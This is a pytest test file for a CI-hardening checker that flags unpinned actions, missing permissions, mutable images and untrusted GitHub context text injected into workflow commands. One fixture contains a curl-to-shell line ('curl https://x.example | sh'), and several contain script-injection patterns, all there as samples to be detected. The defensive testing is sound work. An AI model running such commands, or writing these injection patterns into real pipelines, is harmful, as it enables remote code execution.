"""ci-hardened: strangers cannot use the pipeline."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest
from tests.checks.pipeline.pipeline_facts import judged, system
from tests.facts.hardening.hardening_reading import CI, PIN, read, steps
from tests.support import check_files

from shipworthy.facts.pipeline import Kind, Pipeline
from shipworthy.model import Confidence, OutcomeKind, Severity

PASS, FAIL, UNKNOWN, NA, ASK = (
    OutcomeKind.PASS, OutcomeKind.FAIL, OutcomeKind.UNKNOWN, OutcomeKind.NOT_APPLICABLE, OutcomeKind.NEEDS_YOU,
)  # fmt: skip
LAB = ".gitlab-ci.yml"
SOME = system("github", CI, (Kind.TEST, "pytest"))
CLEAN = steps(f"uses: acme/a@{PIN} # v1.2", "run: make")


@pytest.mark.parametrize(
    ("files", "kind", "summary"),
    [
        ({CI: CLEAN}, PASS, "1 file without a weak place"),
        ({CI: CLEAN, LAB: "t: {script: make}\n"}, PASS, "2 files without a weak place"),
        ({CI: steps("uses: actions/checkout@v4")}, PASS, "1 file without a weak place, 1 remark"),
        ({CI: steps("uses: acme/a@v1")}, FAIL, "borrowed steps that can change (1)"),
        ({CI: steps("run: make", top="")}, FAIL, "no `permissions:` (1)"),
        ({LAB: "image: node\nt: {script: make}\n"}, FAIL, "images that can change (1)"),
        ({LAB: "image: $IMAGE\nt: {script: make}\n"}, ASK, "a person has to look: images that can change (1)"),
        ({CI: "a: [\n"}, UNKNOWN, "not understood: "),
        ({CI: CLEAN, "appveyor.yml": "x: 1\n"}, UNKNOWN, "not understood: appveyor.yml: AppVeyor is not read yet"),
        ({CI: "a: [\n", LAB: "image: node\nt: {script: make}\n"}, FAIL, "images that can change (1)"),
        ({CI: steps("run: echo ${{ github.head_ref }}", "uses: acme/a@v1", "run: curl https://x.example | sh", top="")},
         FAIL, "text of strangers in commands (1), borrowed steps that can change (1), no `permissions:` (1) and"),
    ],
)  # fmt: skip
def test_outcomes(tmp_path: Path, files: Mapping[str, str], kind: OutcomeKind, summary: str) -> None:
    outcome = judged("ci-hardened", SOME, read(tmp_path, files))
    assert outcome.kind is kind
    assert outcome.summary.startswith(summary), outcome.summary
    if kind is PASS:
        assert all(each.severity is Severity.LOW for each in outcome.findings)
        assert CI in outcome.looked_at
    if kind is ASK:
        assert all(each.confidence is Confidence.REVIEW for each in outcome.findings)


def test_no_pipeline(tmp_path: Path) -> None:
    outcome = judged("ci-hardened", Pipeline(files=3), read(tmp_path, {"app.py": "x = 1\n"}))
    assert (outcome.kind, outcome.summary) == (NA, "there is no pipeline")


def test_the_whole_way(tmp_path: Path) -> None:
    """Through the real engine, in a repository whose remote tells whose it is."""
    outcome = check_files("ci-hardened", tmp_path, {CI: steps("uses: acme/a@v1"), "a.py": "x = 1\n"})
    assert outcome.kind is FAIL
    assert any("zizmor" in each for each in outcome.looked_at)


@pytest.mark.parametrize(
    ("text", "message", "remedy"),
    [
        (steps("uses: acme/a@v1"), "`acme/a@v1` is somebody else's code", "`acme/a@<40 letters and digits> # v1`"),
        (steps("run: echo ${{ github.event.issue.title }}"), "`${{ github.event.issue.title }}` is pasted into",
         '`TITLE: ${{ github.event.issue.title }}`, and use `"$TITLE"`'),
        (steps(f"{{uses: actions/github-script@{PIN}, with: {{script: 'f(`${{{{ github.head_ref }}}}`)'}}}} # v7"),
         "it stands in `script` of actions/",
         "`BRANCH: ${{ github.head_ref }}`, and use `process.env.BRANCH`"),
        (steps("run: make", top=""), "Nothing limits", "`contents: read`"),
        (steps("run: make", top="permissions: write-all\n"), "`permissions: write-all` gives",
         "`permissions: {contents: read}`"),
        (steps("run: make", job="    container: node:latest\n"), "`node:latest`", "`node:<version>@sha256:…`"),
        (steps("run: echo ${{ github.ref_name }}"), "Inputs", "`env: {VERSION: ${{ inputs.version }}}`"),
    ],
)  # fmt: skip
def test_what_is_said(tmp_path: Path, text: str, message: str, remedy: str) -> None:
    finding = judged("ci-hardened", SOME, read(tmp_path, {CI: text})).findings[0]
    assert message in finding.message
    assert remedy in finding.remedy
    assert "{{{" not in finding.remedy
    assert finding.location.path == CI


def test_the_same_in_many_lines_is_one_finding(tmp_path: Path) -> None:
    outcome = judged("ci-hardened", SOME, read(tmp_path, {CI: steps(*["uses: acme/a@v1"] * 30)}))
    assert outcome.summary == "borrowed steps that can change (30)"
    assert [len(each.related) for each in outcome.findings] == [29]


def test_a_moved_line_is_the_same_finding(tmp_path: Path) -> None:
    first = judged("ci-hardened", SOME, read(tmp_path / "a", {CI: steps("uses: acme/a@v1")}))
    second = judged("ci-hardened", SOME, read(tmp_path / "b", {CI: steps("run: make", "uses: acme/a@v1")}))
    assert first.findings[0].fingerprint == second.findings[0].fingerprint
